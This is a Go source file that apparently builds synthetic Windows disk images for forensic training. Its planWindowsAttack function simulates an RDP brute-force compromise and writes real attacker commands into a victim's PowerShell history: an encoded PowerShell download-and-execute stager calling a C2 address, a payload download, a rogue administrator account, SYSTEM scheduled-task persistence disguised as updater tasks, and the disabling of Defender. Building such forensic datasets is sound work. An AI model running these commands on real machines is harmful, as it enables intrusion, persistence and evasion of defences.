package simhost

import (
	"encoding/base64"
	"encoding/xml"
	"fmt"
	"strings"
	"time"
	"unicode/utf16"
)

type windowsAttack struct {
	target    *user
	c2IP      string
	payload   []byte
	payPath   string // Windows form
	taskName  string
	taskAt    time.Time
	dlAt      time.Time
	session   []timedCmd
	addedUser string
}

var windowsLocalAccounts = []string{"helpdesk", "itadmin", "scanner", "backupadmin", "support", "kiosk"}

// winLocal returns the host's shared local account (helpdesk style, weak password): what RDP brute
// force finds. makeUsers creates it on every Windows host, compromised or not.
func (p *plan) winLocal() *user {
	for _, u := range p.users {
		if u.service {
			return u
		}
	}
	panic("simhost: windows host without a local account") // makeUsers always adds one
}

// domain is the NetBIOS domain for domain-joined hosts (a dotted name), else the computer name.
func (p *plan) domain() string {
	if i := strings.IndexByte(p.h.Name, '.'); i > 0 {
		return strings.ToUpper(strings.SplitN(p.h.Name[i+1:], ".", 2)[0])
	}
	return p.short
}

// winRel maps a Windows path on drive C to its place in the tree: C:\x\y -> C/x/y.
func winRel(p string) string {
	return "C/" + strings.ReplaceAll(strings.TrimPrefix(p, `C:\`), `\`, "/")
}

func winPath(rel string) string { return strings.ReplaceAll(strings.TrimPrefix(rel, "C/"), "/", `\`) }

func (p *plan) planWindowsAttack() {
	r := newRNG(p.h.Seed, "windows-attack")
	target := p.winLocal()
	a := &windowsAttack{target: target, c2IP: publicIP(r)}
	st := &p.story
	st.Access = "rdp-bruteforce"
	st.AttackerIP = publicIP(r)
	st.User = target.name
	st.BruteForceStart = p.now.Add(-r.dur(30*time.Hour, 80*time.Hour))
	st.Failures = r.Between(20, 160)
	st.FirstSuccess = st.BruteForceStart.Add(time.Duration(st.Failures) * r.dur(time.Second, 4*time.Second))
	port := pick(r, []int{443, 8080, 8443, 4444})
	st.C2 = fmt.Sprintf("%s:%d", a.c2IP, port)
	exe := pick(r, []string{"OneDriveUpdater.exe", "msedgeupdate.exe", "RuntimeBroker.exe", "svchost32.exe"})
	rel := "C/Users/" + target.name + "/AppData/Roaming/Microsoft/" + exe
	a.payPath = `C:\` + winPath(rel)
	a.payload = payload(p.h.Seed, "pe", st.C2)
	st.PayloadPath = a.payPath
	st.PayloadSHA256 = sha256Hex(a.payload)
	a.taskName = pick(r, []string{"MicrosoftEdgeUpdateTaskMachineUA2", "OneDriveStandaloneUpdate", "GoogleUpdateTaskUserS", "WindowsDefenderHealthCheck"})
	st.PersistencePath = `C:\Windows\System32\Tasks\` + a.taskName
	a.addedUser = pick(r, []string{"support_svc", "admin2", "sqlsvc", "defaultuser1", "helpdesk01"})
	st.AddedUser = a.addedUser
	st.Persistence = []string{st.PersistencePath, "local account " + a.addedUser}

	stager := fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('http://%s:%d/a.ps1')", a.c2IP, port)
	enc := base64.StdEncoding.EncodeToString(utf16le(stager, false))
	pw := pick(r, []string{"P@ssw0rd!2024", "Welcome1!", "Summer2025#", "Qwerty123!"})
	cmds := []string{
		"whoami /all",
		"net user",
		"net localgroup administrators",
		"ipconfig /all",
		"powershell -nop -w hidden -enc " + enc,
		fmt.Sprintf("Invoke-WebRequest -Uri http://%s:%d/%s -OutFile %s", a.c2IP, port, strings.ToLower(exe), a.payPath),
		"net user " + a.addedUser + " " + pw + " /add",
		"net localgroup administrators " + a.addedUser + " /add",
		fmt.Sprintf(`schtasks /create /tn "%s" /tr "%s" /sc onlogon /ru SYSTEM /rl HIGHEST /f`, a.taskName, a.payPath),
		"Start-Process " + a.payPath,
	}
	if r.Chance(50) {
		cmds = append(cmds[:5], append([]string{"Set-MpPreference -DisableRealtimeMonitoring $true"}, cmds[5:]...)...)
	}
	cmds = append(cmds, "Clear-History")
	c := &clock{t: st.FirstSuccess.Add(r.dur(30*time.Second, 3*time.Minute)), r: r}
	for _, cmd := range cmds {
		at := c.step(4*time.Second, 70*time.Second)
		a.session = append(a.session, timedCmd{at, cmd})
		switch {
		case strings.HasPrefix(cmd, "Invoke-WebRequest"):
			a.dlAt = at.Add(2 * time.Second)
		case strings.HasPrefix(cmd, "schtasks"):
			a.taskAt = at
		}
	}
	st.Commands = cmds
	st.LastActivity = a.session[len(a.session)-1].t
	p.win = a
}

// utf16le encodes s as UTF-16 little endian, with a byte order mark when bom is set.
func utf16le(s string, bom bool) []byte {
	u := utf16.Encode([]rune(s))
	out := make([]byte, 0, 2*len(u)+2)
	if bom {
		out = append(out, 0xff, 0xfe)
	}
	for _, c := range u {
		out = append(out, byte(c), byte(c>>8))
	}
	return out
}

func crlf(s string) string { return strings.ReplaceAll(s, "\n", "\r\n") }

func (p *plan) buildWindows(t *tree) {
	r := newRNG(p.h.Seed, "windows")
	inst := p.installTime()
	t.dir("C/Windows/System32/winevt/Logs")
	t.text("C/Windows/System32/drivers/etc/hosts", crlf("# Static host name table for this computer.\n"+
		"# One entry per line: address, then host name.\n#\n#\t127.0.0.1       localhost\n#\t::1             localhost\n"), inst)
	p.winTasks(t, r, inst)
	p.winSetupAPI(t, r, inst)
	for _, u := range p.users {
		created := inst.Add(time.Duration(u.uid%100) * 31 * time.Hour)
		t.dir("C/Users/" + u.name + "/Desktop")
		p.winHistory(t, r, u)
		if !u.service {
			p.winDocuments(t, r, u, created)
		}
	}
	t.dir("C/Users/Public/Documents")
	if a := p.win; a != nil {
		t.add(winRel(a.payPath), a.payload, a.dlAt, 0o644)
	}
}

// winHistory writes PSReadLine's ConsoleHost_history.txt: one command per line, CRLF, no times; the file
// time is that of the last command.
func (p *plan) winHistory(t *tree, r *rng, u *user) {
	pool := []string{"Get-ChildItem", "cd ..", "ipconfig /all", "Get-Service | Where-Object Status -eq Running",
		"Test-NetConnection fileserver01 -Port 445", "git status", "git pull", "winget upgrade --all",
		"Get-Process | Sort-Object CPU -Descending | Select-Object -First 10", "nslookup intranet", "gpupdate /force",
		"Get-ComputerInfo | Select-Object OsName, OsVersion", "Resolve-DnsName login.microsoftonline.com", "whoami",
		"Get-EventLog -LogName System -Newest 20", "code .", "python --version", "Get-NetIPAddress", "Clear-Host"}
	var b strings.Builder
	at := p.start.Add(-r.dur(24*time.Hour, 20*24*time.Hour))
	n := r.Between(8, 45)
	if u.service {
		n = r.Between(0, 6)
	}
	var last time.Time
	for range n {
		at = at.Add(r.dur(time.Minute, 20*time.Hour))
		if !at.Before(p.now) {
			break
		}
		b.WriteString(pick(r, pool) + "\r\n")
		last = at
	}
	if a := p.win; a != nil && a.target == u {
		for _, c := range a.session {
			b.WriteString(c.cmd + "\r\n")
			last = c.t
		}
	}
	if b.Len() == 0 {
		return
	}
	t.text("C/Users/"+u.name+"/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt", b.String(), last)
}

// winDocuments writes a few ordinary user files so that a profile does not look synthetic.
func (p *plan) winDocuments(t *tree, r *rng, u *user, created time.Time) {
	home := "C/Users/" + u.name
	topics := []string{"Budget", "Quarterly Report", "Meeting Notes", "Travel Expenses", "Project Plan", "Invoice",
		"Onboarding", "Vendor Contract", "Roadmap", "Timesheet"}
	at := p.start.Add(-r.dur(time.Hour, 30*24*time.Hour))
	for i, topic := range shuffle(r, topics)[:r.Between(3, 6)] {
		at = at.Add(r.dur(time.Hour, 5*24*time.Hour))
		if at.After(p.now) {
			at = p.now.Add(-time.Hour)
		}
		year := at.Year()
		switch i % 3 {
		case 0:
			t.text(fmt.Sprintf("%s/Documents/%s %d.txt", home, topic, year), crlf(fmt.Sprintf("%s\n\n- owner: %s\n- status: draft\n- next review: %s\n",
				topic, u.full, at.AddDate(0, 0, 14).Format("2006-01-02"))), at)
		case 1:
			t.add(fmt.Sprintf("%s/Documents/%s %d.pdf", home, topic, year), minimalPDF(topic), at, 0o644)
		default:
			t.add(fmt.Sprintf("%s/Downloads/%s_%d.pdf", home, strings.ReplaceAll(topic, " ", "_"), year), minimalPDF(topic), at, 0o644)
		}
	}
	t.add(home+"/Downloads/"+pick(r, []string{"ChromeSetup.exe", "npp.8.6.Installer.x64.exe", "vlc-3.0.20-win64.exe", "7z2301-x64.exe"}),
		filler(r, peHeader(), r.Between(150, 700)<<10), created.Add(2*time.Hour), 0o644)
	t.text(home+"/Desktop/desktop.ini", crlf("\n[.ShellClassInfo]\nLocalizedResourceName=@%SystemRoot%\\system32\\shell32.dll,-21769\n"), created)
}

// minimalPDF returns a small, well-formed one-page PDF showing a title.
func minimalPDF(title string) []byte {
	content := fmt.Sprintf("BT /F1 18 Tf 72 720 Td (%s) Tj ET", strings.NewReplacer("(", "", ")", "", `\`, "").Replace(title))
	objs := []string{
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
		fmt.Sprintf("<< /Length %d >>\nstream\n%s\nendstream", len(content), content),
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
	}
	var b strings.Builder
	b.WriteString("%PDF-1.4\n")
	offsets := make([]int, len(objs))
	for i, o := range objs {
		offsets[i] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	xref := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objs)+1)
	for _, off := range offsets {
		fmt.Fprintf(&b, "%010d 00000 n \n", off)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objs)+1, xref)
	return []byte(b.String())
}

// Task Scheduler's XML schema (version 1.2 elements only).
type schedTask struct {
	XMLName      xml.Name       `xml:"Task"`
	Version      string         `xml:"version,attr"`
	Xmlns        string         `xml:"xmlns,attr"`
	Registration taskRegInfo    `xml:"RegistrationInfo"`
	Triggers     taskTriggers   `xml:"Triggers"`
	Principals   taskPrincipals `xml:"Principals"`
	Settings     taskSettings   `xml:"Settings"`
	Actions      taskActions    `xml:"Actions"`
}

type taskRegInfo struct {
	Date        string `xml:"Date,omitempty"`
	Author      string `xml:"Author,omitempty"`
	Description string `xml:"Description,omitempty"`
	URI         string `xml:"URI"`
}

type taskTriggers struct {
	Logon    *taskLogon    `xml:"LogonTrigger,omitempty"`
	Calendar *taskCalendar `xml:"CalendarTrigger,omitempty"`
}

type taskLogon struct {
	Enabled bool `xml:"Enabled"`
}

type taskCalendar struct {
	StartBoundary string   `xml:"StartBoundary"`
	Enabled       bool     `xml:"Enabled"`
	Repetition    *taskRep `xml:"Repetition,omitempty"`
	ScheduleByDay struct {
		DaysInterval int `xml:"DaysInterval"`
	} `xml:"ScheduleByDay"`
}

type taskRep struct {
	Interval string `xml:"Interval"`
	Duration string `xml:"Duration"`
}

type taskPrincipals struct {
	Principal struct {
		ID        string `xml:"id,attr"`
		UserID    string `xml:"UserId"`
		LogonType string `xml:"LogonType,omitempty"`
		RunLevel  string `xml:"RunLevel"`
	} `xml:"Principal"`
}

type taskSettings struct {
	MultipleInstancesPolicy    string `xml:"MultipleInstancesPolicy"`
	DisallowStartIfOnBatteries bool   `xml:"DisallowStartIfOnBatteries"`
	StopIfGoingOnBatteries     bool   `xml:"StopIfGoingOnBatteries"`
	AllowHardTerminate         bool   `xml:"AllowHardTerminate"`
	StartWhenAvailable         bool   `xml:"StartWhenAvailable"`
	RunOnlyIfNetworkAvailable  bool   `xml:"RunOnlyIfNetworkAvailable"`
	IdleSettings               struct {
		StopOnIdleEnd bool `xml:"StopOnIdleEnd"`
		RestartOnIdle bool `xml:"RestartOnIdle"`
	} `xml:"IdleSettings"`
	AllowStartOnDemand bool   `xml:"AllowStartOnDemand"`
	Enabled            bool   `xml:"Enabled"`
	Hidden             bool   `xml:"Hidden"`
	RunOnlyIfIdle      bool   `xml:"RunOnlyIfIdle"`
	WakeToRun          bool   `xml:"WakeToRun"`
	ExecutionTimeLimit string `xml:"ExecutionTimeLimit"`
	Priority           int    `xml:"Priority"`
}

type taskActions struct {
	Context string `xml:"Context,attr"`
	Exec    struct {
		Command   string `xml:"Command"`
		Arguments string `xml:"Arguments,omitempty"`
	} `xml:"Exec"`
}

// taskXML renders a task as Task Scheduler stores it: UTF-16LE with a byte order mark, CRLF lines.
func taskXML(tk schedTask) []byte {
	tk.Version = "1.2"
	tk.Xmlns = "http://schemas.microsoft.com/windows/2004/02/mit/task"
	s := tk.Settings
	s.MultipleInstancesPolicy = "IgnoreNew"
	s.AllowHardTerminate, s.AllowStartOnDemand, s.Enabled = true, true, true
	s.IdleSettings.StopOnIdleEnd = true
	if s.ExecutionTimeLimit == "" {
		s.ExecutionTimeLimit = "PT72H"
	}
	if s.Priority == 0 {
		s.Priority = 7
	}
	tk.Settings = s
	body, err := xml.MarshalIndent(tk, "", "  ")
	if err != nil {
		panic("simhost: task xml: " + err.Error()) // fixed struct types: cannot fail
	}
	return utf16le(crlf(`<?xml version="1.0" encoding="UTF-16"?>`+"\n"+string(body)+"\n"), true)
}

func (p *plan) winTasks(t *tree, r *rng, inst time.Time) {
	guid := func() string {
		b := r.bytes(16)
		return fmt.Sprintf("{%X-%X-%X-%X-%X}", b[0:4], b[4:6], b[6:8], b[8:10], b[10:16])
	}
	daily := func(name, author, cmd, args string, start time.Time, every string) {
		tk := schedTask{Registration: taskRegInfo{Author: author, URI: `\` + name}}
		cal := &taskCalendar{StartBoundary: start.Format("2006-01-02T15:04:05"), Enabled: true}
		cal.ScheduleByDay.DaysInterval = 1
		if every != "" {
			cal.Repetition = &taskRep{Interval: every, Duration: "P1D"}
		}
		tk.Triggers.Calendar = cal
		tk.Principals.Principal.ID = "Author"
		tk.Principals.Principal.UserID = "S-1-5-18"
		tk.Principals.Principal.RunLevel = "HighestAvailable"
		tk.Settings.StartWhenAvailable = true
		tk.Actions.Context = "Author"
		tk.Actions.Exec.Command = cmd
		tk.Actions.Exec.Arguments = args
		t.add("C/Windows/System32/Tasks/"+strings.ReplaceAll(name, `\`, "/"), taskXML(tk), start, 0o644)
	}
	edge := inst.Add(r.dur(time.Hour, 48*time.Hour))
	daily("MicrosoftEdgeUpdateTaskMachineCore"+guid(), "", `C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe`, "/c", edge, "")
	daily("MicrosoftEdgeUpdateTaskMachineUA"+guid(), "", `C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe`, "/ua /installsource scheduler", edge, "PT1H")
	builtin := []struct{ path, cmd, args string }{
		{`Microsoft\Windows\Defrag\ScheduledDefrag`, `%windir%\system32\defrag.exe`, "-c -h -o -$"},
		{`Microsoft\Windows\Windows Error Reporting\QueueReporting`, `%windir%\system32\wermgr.exe`, "-upload"},
		{`Microsoft\Windows\UpdateOrchestrator\Schedule Scan`, `%systemroot%\system32\usoclient.exe`, "StartScan"},
		{`Microsoft\Windows\DiskCleanup\SilentCleanup`, `%windir%\system32\cleanmgr.exe`, "/autoclean /d %systemdrive%"},
		{`Microsoft\Windows\Time Synchronization\SynchronizeTime`, `%windir%\system32\sc.exe`, "start w32time task_started"},
		{`Microsoft\Windows\Application Experience\ProgramDataUpdater`, `%windir%\system32\compattelrunner.exe`, "-maintenance"},
		{`Microsoft\Windows\Windows Defender\Windows Defender Scheduled Scan`, `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe`, "Scan -ScheduleJob -ScanTrigger 55"},
		{`Microsoft\Windows\Windows Defender\Windows Defender Cache Maintenance`, `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe`, "-IdleTask -TaskName WdCacheMaintenance"},
		{`Microsoft\Windows\Windows Defender\Windows Defender Cleanup`, `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe`, "-IdleTask -TaskName WdCleanup"},
		{`Microsoft\Windows\Windows Defender\Windows Defender Verification`, `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe`, "-IdleTask -TaskName WdVerification"},
		{`Microsoft\Windows\Customer Experience Improvement Program\Consolidator`, `%SystemRoot%\System32\wsqmcons.exe`, ""},
		{`Microsoft\Windows\Flighting\OneSettings\RefreshCache`, `%windir%\system32\oobe\OneSettingsClient.exe`, "-refresh"},
	}
	for _, b := range builtin {
		daily(b.path, "", b.cmd, b.args, inst.Add(r.dur(time.Minute, time.Hour)), "")
	}
	if p.role == "workstation" {
		daily("GoogleUpdateTaskMachineCore"+guid(), "", `C:\Program Files (x86)\Google\Update\GoogleUpdate.exe`, "/c", inst.Add(r.dur(48*time.Hour, 400*time.Hour)), "")
	}
	if a := p.win; a != nil {
		tk := schedTask{Registration: taskRegInfo{Date: a.taskAt.Format("2006-01-02T15:04:05"),
			Author: p.short + `\` + a.target.name, URI: `\` + a.taskName}}
		tk.Triggers.Logon = &taskLogon{Enabled: true}
		tk.Principals.Principal.ID = "Author"
		tk.Principals.Principal.UserID = "S-1-5-18"
		tk.Principals.Principal.RunLevel = "HighestAvailable"
		tk.Settings.DisallowStartIfOnBatteries, tk.Settings.StopIfGoingOnBatteries = true, true
		tk.Actions.Context = "Author"
		tk.Actions.Exec.Command = a.payPath
		t.add("C/Windows/System32/Tasks/"+a.taskName, taskXML(tk), a.taskAt, 0o644)
	}
}

// winSetupAPI writes setupapi.dev.log: the header, the devices found at installation, and USB storage
// plugged in later, in the section format Windows uses.
func (p *plan) winSetupAPI(t *tree, r *rng, inst time.Time) {
	var b strings.Builder
	build := "10.0.22631"
	switch v := strings.ToLower(p.h.OSVersion); {
	case strings.Contains(v, "2022"):
		build = "10.0.20348"
	case strings.Contains(v, "2019"):
		build = "10.0.17763"
	case strings.Contains(v, "windows 10"):
		build = "10.0.19045"
	}
	productType := 1
	if p.role == "server" {
		productType = 3
	}
	fmt.Fprintf(&b, "[Device Install Log]\n     OS Version = %s\n     Service Pack = 0.0\n     Suite = 0x0100\n     ProductType = %d\n     Architecture = amd64\n\n[BeginLog]\n",
		build, productType)
	section := func(at time.Time, hwid, instanceID, desc, inf string, compat []string) {
		clock := func(d time.Duration) string { return at.Add(d).Format("15:04:05.000") }
		fmt.Fprintf(&b, "\n>>>  [Device Install (Hardware initiated) - %s]\n>>>  Section start %s\n", instanceID, at.Format("2006/01/02 15:04:05.000"))
		fmt.Fprintf(&b, "     ump: Creating Install Process: DrvInst.exe %s\n     ndv: Retrieving device info...\n     ndv: Setting device parameters...\n", clock(9*time.Millisecond))
		fmt.Fprintf(&b, "     ndv: Building driver list...\n     dvi: {Build Driver List} %s\n     dvi:      Searching for hardware ID(s):\n", clock(21*time.Millisecond))
		fmt.Fprintf(&b, "     dvi:           %s\n     dvi:      Searching for compatible ID(s):\n", strings.ToLower(hwid))
		for _, c := range compat {
			fmt.Fprintf(&b, "     dvi:           %s\n", strings.ToLower(c))
		}
		fmt.Fprintf(&b, "     dvi:      Created Driver Node:\n     dvi:           HardwareID   - %s\n     dvi:           InfName      - C:\\Windows\\System32\\DriverStore\\FileRepository\\%s\n", compat[len(compat)-1], inf)
		fmt.Fprintf(&b, "     dvi:           DevDesc      - %s\n     dvi:           Rank         - 0x00ff0000\n     dvi:           Signer Score - INBOX\n", desc)
		fmt.Fprintf(&b, "     dvi: {Build Driver List - exit(0x00000000)} %s\n     ndv: Selecting best match from Driver Store...\n", clock(120*time.Millisecond))
		fmt.Fprintf(&b, "     ndv: Installing device...\n     dvi: {Install Device - %s} %s\n     dvi: {Install Device - exit(0x00000000)} %s\n", instanceID, clock(160*time.Millisecond), clock(610*time.Millisecond))
		fmt.Fprintf(&b, "     ump: Server install process exited with code 0x00000000 %s\n<<<  Section end %s\n<<<  [Exit status: SUCCESS]\n\n", clock(640*time.Millisecond), at.Add(655*time.Millisecond).Format("2006/01/02 15:04:05.000"))
	}
	at := inst.Add(r.dur(10*time.Minute, 30*time.Minute))
	section(at, `HDAUDIO\FUNC_01&VEN_10EC&DEV_0257`, `HDAUDIO\FUNC_01&VEN_10EC&DEV_0257&SUBSYS_17AA225D&REV_1000\4&2B1F0C3F&0&0001`,
		"High Definition Audio Device", `hdaudio.inf_amd64_e3c1b1d4cd4e7ad8\hdaudio.inf`, []string{`HDAUDIO\FUNC_01&CTLR_VEN_8086&CTLR_DEV_A0C8`, `HDAUDIO\FUNC_01`})
	for _, d := range installDevices {
		at = at.Add(r.dur(200*time.Millisecond, 20*time.Second))
		inst := fmt.Sprintf(`%s\%d&%X&0&%02X`, d.hwid, r.Between(3, 7), r.bytes(4), r.Intn(256))
		section(at, d.hwid, inst, d.desc, d.inf, d.compat)
	}
	last := at
	drives := []struct{ ven, prod, vid, pid string }{{"SanDisk", "Cruzer_Blade", "0781", "5567"}, {"Kingston", "DataTraveler_3.0", "0951", "1666"},
		{"Samsung", "Flash_Drive_FIT", "090C", "1000"}, {"WD", "Elements_2621", "1058", "2621"}}
	if p.role == "workstation" {
		at = p.start.Add(-r.dur(24*time.Hour, 60*24*time.Hour))
		for range r.Between(1, 3) {
			at = at.Add(r.dur(2*time.Hour, 9*24*time.Hour))
			if !at.Before(p.now) {
				break
			}
			d := pick(r, drives)
			serial := fmt.Sprintf("%X", r.bytes(10))
			section(at, fmt.Sprintf(`USB\VID_%s&PID_%s&REV_0100`, d.vid, d.pid), fmt.Sprintf(`USB\VID_%s&PID_%s\%s`, d.vid, d.pid, serial),
				"USB Mass Storage Device", `usbstor.inf_amd64_4b94e0b7a7bb4c5e\usbstor.inf`, []string{`USB\Class_08&SubClass_06&Prot_50`, `USB\Class_08`})
			section(at.Add(2*time.Second), fmt.Sprintf(`USBSTOR\Disk%s_%s_____1.00`, d.ven, d.prod), fmt.Sprintf(`USBSTOR\Disk&Ven_%s&Prod_%s&Rev_1.00\%s&0`, d.ven, d.prod, serial),
				strings.ReplaceAll(d.ven+" "+d.prod, "_", " ")+" USB Device", `disk.inf_amd64_a4a0e8b9cbd5c9a7\disk.inf`, []string{`USBSTOR\Disk`, `GenDisk`})
			last = at.Add(2 * time.Second)
		}
	}
	t.text("C/Windows/INF/setupapi.dev.log", crlf(b.String()), last.Add(time.Second))
}

// installDevices are found when Windows is installed on a typical laptop or VM.
var installDevices = []struct {
	hwid, desc, inf string
	compat          []string
}{
	{`PCI\VEN_8086&DEV_A0EF&SUBSYS_380017AA&REV_20`, "Intel(R) SMBus - A0A3", `machine.inf_amd64_b1b0c4a6e0f1b6a2\machine.inf`, []string{`PCI\VEN_8086&DEV_A0EF&REV_20`, `PCI\VEN_8086&CC_0C05`, `PCI\CC_0C05`}},
	{`PCI\VEN_8086&DEV_A0ED&SUBSYS_380017AA&REV_20`, "USB xHCI Compliant Host Controller", `usbxhci.inf_amd64_0c3c5e3a7f2fbd65\usbxhci.inf`, []string{`PCI\VEN_8086&CC_0C0330`, `PCI\CC_0C0330`}},
	{`USB\ROOT_HUB30`, "USB Root Hub (USB 3.0)", `usbhub3.inf_amd64_6a7b8e0c3c9d7f11\usbhub3.inf`, []string{`USB\ROOT_HUB30`}},
	{`PCI\VEN_15B7&DEV_5006&SUBSYS_500615B7&REV_01`, "Standard NVM Express Controller", `stornvme.inf_amd64_3e1f5a0f6c1fbd1a\stornvme.inf`, []string{`PCI\VEN_15B7&CC_010802`, `PCI\CC_010802`}},
	{`SCSI\DiskNVMe____WDC_PC_SN730_SDBQ11110106`, "Disk drive", `disk.inf_amd64_a4a0e8b9cbd5c9a7\disk.inf`, []string{`SCSI\Disk`, `GenDisk`}},
	{`PCI\VEN_8086&DEV_9A49&SUBSYS_380017AA&REV_01`, "Microsoft Basic Display Adapter", `display.inf_amd64_3bc1bbd1a3e1cb43\display.inf`, []string{`PCI\VEN_8086&CC_030000`, `PCI\CC_0300`}},
	{`PCI\VEN_8086&DEV_A0F0&SUBSYS_00748086&REV_20`, "Intel(R) Wi-Fi 6 AX201 160MHz", `netwtw10.inf_amd64_8e3f4e2c1b1d2c4f\netwtw10.inf`, []string{`PCI\VEN_8086&CC_028000`, `PCI\CC_0280`}},
	{`USB\VID_8087&PID_0026&REV_0002`, "Intel(R) Wireless Bluetooth(R)", `ibtusb.inf_amd64_6d3e0e7c5a3a9f1b\ibtusb.inf`, []string{`USB\Class_E0&SubClass_01&Prot_01`, `USB\Class_E0`}},
	{`USB\VID_04F2&PID_B6CB&REV_6021&MI_00`, "Integrated Camera", `usbvideo.inf_amd64_0f8b2d6b0e7a3f0e\usbvideo.inf`, []string{`USB\Class_0E&SubClass_03&Prot_00`, `USB\Class_0E`}},
	{`ACPI\VEN_LEN&DEV_0071`, "Standard PS/2 Keyboard", `keyboard.inf_amd64_8f5c5e0b1f4f2a9c\keyboard.inf`, []string{`*PNP0303`}},
	{`HID\VID_06CB&PID_CE65&Col01`, "HID-compliant mouse", `msmouse.inf_amd64_b8e8e3a2b7a6d4c2\msmouse.inf`, []string{`HID_DEVICE_SYSTEM_MOUSE`, `HID_DEVICE`}},
	{`ACPI\VEN_INT&DEV_33A0`, "Intel(R) Smart Sound Technology OED", `intcoed.inf_amd64_2f9b0e8f8e6c5d1a\intcoed.inf`, []string{`ACPI\INT33A0`}},
	{`ACPI\VEN_PNP&DEV_0C0A`, "Microsoft ACPI-Compliant Control Method Battery", `cmbatt.inf_amd64_5b9d2d5a1b7f6e3c\cmbatt.inf`, []string{`*PNP0C0A`}},
	{`ROOT\BasicRender`, "Microsoft Basic Render Driver", `basicrender.inf_amd64_0bb93a5e0bb1e7a4\basicrender.inf`, []string{`ROOT\BasicRender`}},
	{`SWD\MSRRAS\MS_PPPOEMINIPORT`, "WAN Miniport (PPPOE)", `netrasa.inf_amd64_1c4b8d7b5e7a8f9d\netrasa.inf`, []string{`SWD\MSRRAS\MS_PPPOEMINIPORT`}},
	{`SWD\PRINTENUM\{5B3E2F38-8E1D-4B6C-9E4D-6A1F0B9E9D21}`, "Microsoft Print to PDF", `prnms009.inf_amd64_3107874c7db0aa5a\prnms009.inf`, []string{`PRINTENUM\LocalPrintQueue`}},
}
